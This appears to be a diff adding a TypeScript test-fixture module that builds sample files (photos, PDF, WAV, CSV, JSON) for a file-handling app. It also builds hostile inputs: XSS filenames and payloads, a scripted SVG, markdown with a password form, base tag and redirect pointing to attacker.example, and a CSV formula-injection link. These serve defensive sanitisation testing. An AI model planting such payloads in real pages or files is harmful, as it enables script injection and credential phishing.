@@ -1,0 +1,167 @@
+import { drawScene } from './scene.ts';
+
+/** Files as people have them, and as only an attacker would make them. */
+
+/** Names that a page could take for markup, for a path or for a part of a URL. Each is valid, on disk and in a bucket. */
+export const HOSTILE_NAMES: readonly string[] = [
+  '<img src=x onerror=alert(1)>.txt',
+  '"><script>alert(1)<\u2215script>.txt',
+  `quotes'"\`.txt`,
+  '{{constructor.constructor("alert(1)")()}}.txt',
+  'javascript:alert(1)',
+  '&lt;b&gt;&amp;.txt',
+  'a%2Fb',
+  '%2e%2e%2f',
+  '#?&.txt',
+  '?download=1',
+  'rtl \u202etxt.exe',
+  'zero\u200bwidth.txt',
+  'emoji 👩‍👩‍👧 🎉.txt',
+  '__proto__',
+  `${'long '.repeat(39)}.txt`,
+  'x'.repeat(200),
+];
+
+/** A photo as JPEG or PNG; each `seed` gives another place and time of day. */
+export async function photo(
+  seed: number,
+  { width = 1200, height = 800, format = 'jpeg' }: { width?: number; height?: number; format?: 'jpeg' | 'png' } = {},
+): Promise<Buffer> {
+  return await drawScene(seed, width, height).toFormat(format).toBuffer();
+}
+
+/** Photos of several sizes and shapes, by the names under which people keep them. */
+export async function photos(): Promise<Record<string, Buffer>> {
+  const files = ALBUM.map(async ([name, width, height], seed): Promise<[string, Buffer]> => {
+    const format = name.endsWith('.png') ? 'png' : 'jpeg';
+    return [name, await photo(seed, { width, height, format })];
+  });
+  return Object.fromEntries(await Promise.all(files));
+}
+
+const ALBUM: readonly (readonly [name: string, width: number, height: number])[] = [
+  ['alps at dawn.jpg', 1600, 1067],
+  ['balcony.jpg', 1067, 1600],
+  ['coast.jpg', 1920, 1080],
+  ['dunes.png', 900, 600],
+  ['evening.jpg', 1200, 1200],
+  ['fjord panorama.jpg', 2400, 600],
+  ['garden wall.jpg', 500, 1500],
+  ['harbour.jpg', 1280, 960],
+  ['icon.png', 32, 32],
+  ['lake.png', 640, 480],
+  ['moor.jpg', 1024, 768],
+  ['夜景.jpg', 1600, 900],
+];
+
+/** Draws a green circle, and runs `alert` in any page that takes it for more than an image. */
+export const SCRIPTED_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="alert('onload')">
+  <script>alert('script')</script>
+  <circle cx="150" cy="100" r="80" fill="green" onclick="alert('onclick')"/>
+  <image href="x" onerror="alert('onerror')"/>
+  <foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>
+</svg>
+`;
+
+/** Markdown with the HTML, links and images of an attacker, between what is harmless and has to be shown. */
+export const HOSTILE_MARKDOWN = `# Harmless heading
+
+Text with **bold words**, \`code\` and a [link](https://example.org/).
+
+| a table | with two columns |
+| :------ | ---------------: |
+| one     |                1 |
+
+- [x] done
+- [ ] to do
+
+<script>alert('script')</script>
+<img src="x" onerror="alert('image')">
+<svg onload="alert('svg')"></svg>
+<iframe srcdoc="<script>alert('frame')</script>"></iframe>
+<a href="javascript:alert('anchor')">anchor</a>
+<form action="https://attacker.example/"><input name="password"></form>
+<style>body { display: none }</style>
+<base href="https://attacker.example/">
+<meta http-equiv="refresh" content="0;url=https://attacker.example/">
+<div id="page" class="dialog" style="position: fixed; inset: 0">over everything</div>
+
+[link](javascript:alert('link'))
+[data](data:text/html,<script>alert('data')</script>)
+![image](https://attacker.example/pixel.png)
+![local](../photos/coast.jpg)
+[a"onmouseover="alert('attribute')]: https://example.org/
+
+\`\`\`html
+<script>alert('fence')</script>
+\`\`\`
+`;
+
+/** Quoted commas, quotes and line breaks, a formula, markup and an empty cell. */
+export const CSV =
+  'name,price,note\r\n' +
+  'tea,"1,50","says ""green"" on it"\r\n' +
+  '咖啡,3,"two\nlines"\r\n' +
+  `=HYPERLINK("https://attacker.example/"),,<img src=x onerror=alert('csv')>\r\n`;
+
+export const JSON_TEXT = `${JSON.stringify({ name: 'Holdall', tags: ['files', '文件'], nested: { empty: null, 'a<b>': [1, 2.5, true] } })}\n`;
+
+export const SOURCE_CODE = `import { readFile } from 'node:fs/promises';
+
+/** Says how many words a file has. */
+export async function countWords(path: string): Promise<number> {
+  const text = await readFile(path, 'utf8'); // "</script><script>alert('code')</script>"
+  return text.split(/\\s+/).filter((word) => word !== '').length;
+}
+`;
+
+/** Numbered lines of text, this many bytes in all. */
+export function longText(bytes: number): Buffer {
+  const text = Buffer.alloc(bytes, ' and so on');
+  for (let at = 0, line = 1; at < bytes; at += 80, line++) text.write(`\nline ${line}`, at);
+  return text;
+}
+
+/** One page that says its title. */
+export function pdf(title = 'A small document'): Buffer {
+  const content = `BT /F1 36 Tf 60 700 Td (${title.replaceAll(/[\\()]/g, '\\$&')}) Tj ET`;
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
+    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+  ];
+  let file = '%PDF-1.4\n';
+  const offsets = objects.map((object, index) => {
+    const offset = file.length;
+    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
+    return `${String(offset).padStart(10, '0')} 00000 n \n`;
+  });
+  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
+  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`;
+  return Buffer.from(file + table + trailer, 'latin1');
+}
+
+/** A tone as WAV: one channel of 8,000 samples a second, 16 bits each. */
+export function wav(seconds = 2, hertz = 440): Buffer {
+  const rate = 8000;
+  const samples = Buffer.alloc(Math.round(seconds * rate) * 2);
+  for (let at = 0; at < samples.length / 2; at++) {
+    samples.writeInt16LE(Math.round(8000 * Math.sin((2 * Math.PI * hertz * at) / rate)), at * 2);
+  }
+  const header = Buffer.alloc(44);
+  header.write('RIFF', 0);
+  header.writeUInt32LE(36 + samples.length, 4);
+  header.write('WAVEfmt ', 8);
+  header.writeUInt32LE(16, 16);
+  header.writeUInt16LE(1, 20);
+  header.writeUInt16LE(1, 22);
+  header.writeUInt32LE(rate, 24);
+  header.writeUInt32LE(rate * 2, 28);
+  header.writeUInt16LE(2, 32);
+  header.writeUInt16LE(16, 34);
+  header.write('data', 36);
+  header.writeUInt32LE(samples.length, 40);
+  return Buffer.concat([header, samples]);
+}
